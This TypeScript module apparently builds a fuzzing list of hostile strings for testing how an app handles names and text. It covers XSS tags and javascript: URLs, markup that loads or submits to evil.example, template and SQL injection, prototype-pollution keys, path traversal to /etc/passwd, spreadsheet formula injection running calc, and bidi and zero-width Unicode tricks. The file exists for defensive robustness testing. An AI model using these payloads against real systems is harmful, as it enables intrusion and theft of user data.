/** Texts that somebody might type, paste or send in order to break a page, a table or a reader. */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { root } from '../../scripts/runtime.mjs';
import { shortened, tidied } from '../../src/domain/text.ts';

const run = 'alert(document.domain)';
const opening = [
  '<',
  '"><',
  "'><",
  '</title><',
  '</textarea><',
  '<!--',
  '&lt;',
  '\u003c',
  '<\u0000',
];
const tags = [
  `script>${run}</script>`,
  `img src=x onerror=${run}>`,
  `svg onload=${run}>`,
  `iframe src="javascript:${run}">`,
  `a href="javascript:${run}">x</a>`,
  `details open ontoggle=${run}>`,
  `style>*{background:url("//evil.example/x")}</style>`,
  `base href="//evil.example/">`,
  `meta http-equiv=refresh content="0;url=//evil.example">`,
  `form action="//evil.example"><button>x`,
  `link rel=stylesheet href="//evil.example/x.css">`,
  `math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
];
const others = [
  '${7*7}',
  '{{7*7}}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '%(x)s %s %n %x %d {0} {count, plural, one {x} other {y}}',
  '{',
  "{'",
  '}}{{',
  "'; DROP TABLE items; --",
  "' OR '1'='1",
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/%2e%2e/%00',
  '../../../../etc/passwd',
  'C:\\..\\..\\windows\\win.ini',
  '%',
  '%E0%A4%A',
  '#/items/../settings?x#y',
  'a/b/c',
  '?',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\u202eevil\u202c',
  '\u2066\u2067\u2068 isolates \u2069',
  'zero\u200bwidth\u200c\u200d\u2060\ufeffinside',
  'nul\u0000inside',
  'bell\u0007 escape\u001b[31m delete\u007f',
  'line\nfeed and\r\nreturn',
  'line\u2028paragraph\u2029separators',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035aalgo'.repeat(
    8,
  ),
  '👩‍👩‍👧‍👦'.repeat(20),
  '🏴󠁧󠁢󠁳󠁣󠁴󠁿🇦🇶🫱🏿‍🫲🏻',
  '\ufdfd'.repeat(30),
  'W'.repeat(400),
  'i'.repeat(390),
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(4),
  'علي '.repeat(40),
  'ไม้หันอากาศ'.repeat(12),
  'null',
  'undefined',
  'NaN',
  '1e309',
  '0',
  'true',
];

const shared = join(root, '..', 'shared', 'data', 'naughty', 'blns.json');
const naughty = existsSync(shared)
  ? (JSON.parse(readFileSync(shared, 'utf8')) as readonly string[])
  : [];

/** Each fit to be a name; no two alike. */
export const hostileTexts: readonly string[] = [
  ...new Set(
    [...opening.flatMap((lead) => tags.map((tag) => `${lead}${tag}`)), ...others, ...naughty]
      .map((text) => tidied(shortened(text, 400)))
      .filter((text) => text !== ''),
  ),
];
